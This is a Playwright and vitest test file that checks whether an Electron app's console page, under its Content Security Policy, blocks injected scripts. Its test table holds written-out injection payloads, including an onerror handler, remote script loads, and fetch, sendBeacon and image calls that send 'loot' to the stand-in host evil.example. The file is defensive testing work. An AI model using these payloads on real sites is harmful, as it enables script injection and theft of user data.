import { mkdtemp, writeFile } from 'node:fs/promises'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { type Browser, chromium, type Page } from '@playwright/test'
import { afterAll, beforeAll, beforeEach, expect, it } from 'vitest'
import { answerConsoleRequest } from '#electron/desktop/console/console-protocol.ts'
import { removeFolder } from '#tests/support/remove-folder.ts'
import playwrightConfig from '../../playwright.config.ts'

/** The console's files with their headers, as the protocol gives them, in a real Chromium, under an origin that it knows. */
const origin = 'https://console.example'
const document = `<!doctype html><html><head><title>Herald</title><script src="/own.js"></script></head><body></body></html>`

let folder: string
let browser: Browser
let page: Page
/** What left the page. */
let asked: string[]

beforeAll(async () => {
  folder = await mkdtemp(join(tmpdir(), 'herald-page-'))
  await writeFile(join(folder, 'index.html'), document)
  await writeFile(join(folder, 'own.js'), 'window.isOwn = true')
  browser = await chromium.launch(playwrightConfig.use?.launchOptions)
})

afterAll(async () => {
  await browser.close()
  await removeFolder(folder)
})

beforeEach(async () => {
  const context = await browser.newContext()
  asked = []
  await context.route('**/*', async (route) => {
    const url = new URL(route.request().url())
    if (url.origin !== origin) {
      asked.push(url.href)
      return route.abort()
    }
    const answer = await answerConsoleRequest({ method: 'GET', url: `herald://console${url.pathname}` }, folder)
    await route.fulfill({
      status: answer.status,
      headers: Object.fromEntries(answer.headers),
      body: Buffer.from(await answer.arrayBuffer()),
    })
  })
  page = await context.newPage()
  await page.goto(`${origin}/`)
  return () => context.close()
})

/** Runs a script as one that was smuggled in would run; gives back the rules that stopped it within a while, none if none did. */
async function attack(script: string, withinMs = 10_000): Promise<readonly string[]> {
  await page.evaluate((patienceMs) => {
    const stopped: string[] = []
    const seen = new Promise<readonly string[]>((resolve) => {
      window.addEventListener('securitypolicyviolation', (event) => {
        stopped.push(event.effectiveDirective)
        resolve(stopped)
      })
      setTimeout(() => resolve(stopped), patienceMs)
    })
    Object.assign(window, { seen })
  }, withinMs)
  await page.evaluate(`(() => { try { ${script} } catch {} })()`)
  // Awaited in the page: to ask again and again would be an evaluation that the policy stops, and counts.
  return page.evaluate('seen')
}

it('the page of the content policy tests runs its own script', async () => {
  expect(await page.evaluate('window.isOwn')).toBe(true)
})

it('an injected script that does nothing is not stopped', async () => {
  expect(await attack('window.isHarmless = true', 500)).toEqual([])
  expect(await page.evaluate('window.isHarmless')).toBe(true)
})

it.each([
  [
    'writes a script into the page',
    "document.body.append(Object.assign(document.createElement('script'), { text: 'window.isOut = true' }))",
    'script-src-elem',
  ],
  [
    'writes a handler into the page',
    'document.body.innerHTML = \'<img src=x onerror="window.isOut = true">\'',
    'script-src-attr',
  ],
  [
    'loads a script',
    "document.body.append(Object.assign(document.createElement('script'), { src: 'https://evil.example/x.js' }))",
    'script-src-elem',
  ],
  ['runs code from a string', "window.setTimeout('window.isOut = true', 0)", 'script-src'],
  ['starts a thread of its own', "new Worker(URL.createObjectURL(new Blob(['']))) ", 'worker-src'],
  ['asks a foreign server', "fetch('https://evil.example/?loot').catch(() => {})", 'connect-src'],
  ['opens a socket', "new WebSocket('wss://evil.example/')", 'connect-src'],
  ['leaves a note behind', "navigator.sendBeacon('https://evil.example/', 'loot')", 'connect-src'],
  ['shows a foreign picture', "new Image().src = 'https://evil.example/loot.png'", 'img-src'],
  [
    'takes a foreign style',
    "document.head.insertAdjacentHTML('beforeend', '<link rel=stylesheet href=https://evil.example/x.css>')",
    'style-src-elem',
  ],
  [
    'takes a foreign typeface',
    "new FontFace('x', 'url(https://evil.example/x.woff2)').load().catch(() => {})",
    'font-src',
  ],
  [
    'plays a foreign film',
    "document.body.insertAdjacentHTML('beforeend', '<video src=https://evil.example/x.mp4></video>')",
    'media-src',
  ],
  [
    'frames a foreign page',
    "document.body.insertAdjacentHTML('beforeend', '<iframe src=https://evil.example/></iframe>')",
    'frame-src',
  ],
  ['frames itself', "document.body.insertAdjacentHTML('beforeend', '<iframe src=/></iframe>')", 'frame-src'],
  [
    'embeds an object',
    "document.body.insertAdjacentHTML('beforeend', '<object data=https://evil.example/x></object>')",
    'object-src',
  ],
  [
    'sends a form',
    "document.body.innerHTML = '<form action=https://evil.example/></form>'; document.forms[0].submit()",
    'form-action',
  ],
  [
    'moves the base of all addresses',
    "document.head.insertAdjacentHTML('beforeend', '<base href=https://evil.example/>')",
    'base-uri',
  ],
])('an injected script %s, and is stopped', async (_what, script, rule) => {
  expect(await attack(script)).toContain(rule)
  expect(await page.evaluate('window.isOut')).toBeUndefined()
  expect(asked).toEqual([])
})
